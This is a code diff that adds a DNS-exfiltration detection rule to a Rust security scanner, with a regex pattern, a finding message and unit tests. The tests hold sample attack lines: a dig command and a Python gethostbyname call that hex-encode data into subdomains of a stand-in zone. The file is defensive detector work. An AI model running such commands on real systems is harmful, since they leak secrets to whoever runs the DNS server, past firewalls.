@@ -156,8 +156,43 @@ static FILE_UPLOAD: LazyLock<Pattern> = LazyLock::new(|| {
 /// Sending secrets or files where someone else collects them.
 pub fn check_exfiltration(text: &Text, out: &mut Vec<Finding>) {
     check_sends(text, out);
+    check_encoded_names(text, out);
     if text.is_markdown() {
         check_prose(text, out);
+    }
+}
+
+/// Data encoded into the labels of a host name (`$(… | xxd -p).zone.example`,
+/// `f"{data.hex()}.{zone}"`): looking the name up hands the data to whoever serves the zone,
+/// through every firewall that lets DNS out.
+static ENCODED_LABEL: LazyLock<Pattern> = LazyLock::new(|| {
+    Pattern::new(
+        r#"(?i)\$\([^()\n]*(?:xxd[[:space:]]+-[a-z]*p|base32|basenc|hexdump|od[[:space:]]+-[^)\n]*x)[^()\n]*\)\.[$\x7B[:word:]]|(?:\.hex\(\)|hexlify\([^)\n]*\)|b32encode\([^)\n]*\)(?:\.decode\(\))?)[^"'\n]{0,12}\}\.[$\x7B[:word:]]"#,
+    )
+    .expect("a valid encoded-label pattern")
+});
+
+fn check_encoded_names(text: &Text, out: &mut Vec<Finding>) {
+    if !text.triggered(family::OBFUSCATION) {
+        return;
+    }
+    for m in text.find_on_lines(family::OBFUSCATION, &ENCODED_LABEL) {
+        if text.is_markdown() && !text.in_code(&m) {
+            continue;
+        }
+        let line = text.line_at(m.start);
+        out.push(text.finding(
+            &EXFILTRATION,
+            Span::new(line.start, line.end),
+            format!(
+                "encodes data into a host name to look up: `{}`",
+                excerpt(&text.text[line])
+            ),
+            "a lookup of a name made of encoded data delivers that data to whoever runs the \
+             name's DNS server, past firewalls and proxies that let DNS through; it is how \
+             malware leaks secrets quietly",
+            "resolve only the host names the task is about, written as they are",
+        ));
     }
 }
 
@@ -363,6 +398,7 @@ pub(super) fn compile() {
         &SEND_WORDS,
         &ENV_DUMP,
         &FILE_UPLOAD,
+        &ENCODED_LABEL,
         &SEND_VERB,
         &SENT_VERB,
         &SECRET_WORD,
@@ -385,6 +421,16 @@ mod tests {
         check_exfiltration(&t, &mut out);
         check_password_prompt(&t, &mut out);
         out.iter().map(|f| f.rule.code).collect()
+    }
+
+    #[test]
+    fn data_encoded_into_host_names() {
+        let sh = "dig +short \"$(printf %s \"$v\" | xxd -p | tr -d '\\n').$i.zone.example\"\n";
+        assert_eq!(codes("a.sh", sh), ["SK908"]);
+        let py = "socket.gethostbyname(f\"{chunk.hex()}.{ZONE}\")\n";
+        assert_eq!(codes("a.py", py), ["SK908"]);
+        assert!(codes("a.sh", "echo \"$(date +%s | xxd -p)\"\n").is_empty());
+        assert!(codes("a.sh", "dig +short example.com\n").is_empty());
     }
 
     #[test]
